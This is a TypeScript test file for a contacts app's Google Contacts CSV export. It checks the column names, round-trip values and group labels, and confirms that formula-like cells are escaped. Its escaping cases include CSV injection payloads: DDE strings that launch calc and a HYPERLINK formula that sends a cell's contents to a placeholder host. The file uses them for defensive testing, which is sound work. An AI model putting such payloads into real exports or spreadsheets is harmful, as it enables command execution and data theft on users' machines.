import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvHead, csvRow } from "../../../functions/export-worker/google-csv.ts";
import { fieldsMerged } from "../../../shared/contact/fields.ts";
import { blankContact, type ContactRecord } from "../../../shared/contact/record.ts";
import { arbitraryContact } from "../../support/contact/arbitrary-contact.ts";
import { arbitraryHostileContact } from "../../support/contact/hostile-contact.ts";

const accountId = "0190a8b2-1111-7000-8000-000000000001";

function read(contact: ContactRecord, groupLabels: readonly string[] = []): Record<string, string> {
  const options = { bom: true, columns: true, record_delimiter: "\r\n" } as const;
  const [row, ...others] = parse(csvHead + csvRow({ contact, groupLabels }), options) as Record<string, string>[];
  if (!row || others.length > 0) throw new Error(`${others.length} rows more than one`);
  return row;
}

describe("a row", () => {
  it("has the columns of Google Contacts", () => {
    const names = csvHead.slice(1).trimEnd().split(",");
    expect(names.slice(0, 19).join()).toBe(
      "First Name,Middle Name,Last Name,Phonetic First Name,Phonetic Middle Name,Phonetic Last Name,Name Prefix,Name Suffix," +
        "Nickname,File As,Organization Name,Organization Title,Organization Department,Birthday,Notes,Photo,Labels," +
        "E-mail 1 - Label,E-mail 1 - Value",
    );
    expect(names).toEqual(
      expect.arrayContaining(["Phone 10 - Value", "Address 10 - Extended Address", "Event 1 - Label"]),
    );
    expect(new Set(names).size).toBe(names.length);
  });

  it("is read by another reader with every value, and no cell is a formula", () => {
    const contacts = fc.oneof(arbitraryContact(accountId), arbitraryHostileContact(accountId));
    fc.assert(
      fc.property(contacts, (contact) => {
        const row = read(contact);
        const cells = Object.values(row);
        for (const cell of cells.filter((each) => /^[=+\-@\t\r\n]/.test(each))) {
          expect(cell).toMatch(/^\+[\d ().,;/*#-]+(x[\d ().,;/*#-]*)?$|^-\d+(\.\d+)?(e-\d+)?$/i);
        }
        const shown = (text: string) => expect(cells.some((cell) => cell === text || cell === `'${text}`)).toBe(true);
        shown(contact.firstName);
        shown(contact.notes ?? "");
        for (const { value } of contact.emails) shown(value);
        for (const { prefix, value } of contact.phones) shown(`${prefix} ${value}`.trim());
        for (const { date } of contact.importantDates) shown(date.startsWith("1904-") ? ` --${date.slice(5)}` : date);
        for (const { addressLine1, addressCity } of contact.addresses) {
          shown(addressLine1 ?? "");
          shown(addressCity ?? "");
        }
        const fields = [...fieldsMerged("text", "handle"), "keepFrequencyDays", "lastInteraction"] as const;
        for (const field of fields) {
          shown(String(contact[field] ?? ""));
        }
      }),
    );
  });

  it.each([
    ...["=1+1", '=HYPERLINK("https://x.example?"&A1)', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
    ...[
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "+A1",
      "-A1*2",
      "+1*x1",
      "-1-x1",
      "-2-3",
      "+1+2",
      "-",
      "+",
      "@ann",
    ],
    ...["\t=1+1", "\r=1+1", "\n=1+1", "-5 kg", "+49 30 call me", "--02-29"],
  ])("makes %j text", (notes) => {
    expect(read(contactWith({ notes })).Notes).toBe(`'${notes}`);
  });

  it.each([
    ...["+491701234567", "+49 (30) 123-45 x6", "+49 30/12345", "+1 555.123.4567", "+1 5551234,,77#", "+44 20 123X4"],
    ...["-12.5", "-33", "-1e-7", "a=1", "1+1", "*1", "'=1+1", " =1"],
  ])("leaves %j as it is", (notes) => {
    expect(read(contactWith({ notes })).Notes).toBe(notes);
  });

  it("has the labels of the groups, and an asterisk at the preferred address", () => {
    const emails = ["a", "b"].map((name) => ({ type: "home", value: `${name}@x.example`, preferred: name === "b" }));
    const row = read(contactWith({ emails }), ["Crew", "Old, friends"]);
    expect([row.Labels, row["E-mail 1 - Label"], row["E-mail 2 - Label"]]).toEqual([
      "Crew ::: Old, friends",
      "home",
      "* home",
    ]);
  });
});

function contactWith(fields: Partial<ContactRecord>): ContactRecord {
  return { ...blankContact(accountId, accountId, new Date("2026-03-01T10:00:00.000Z")), ...fields };
}
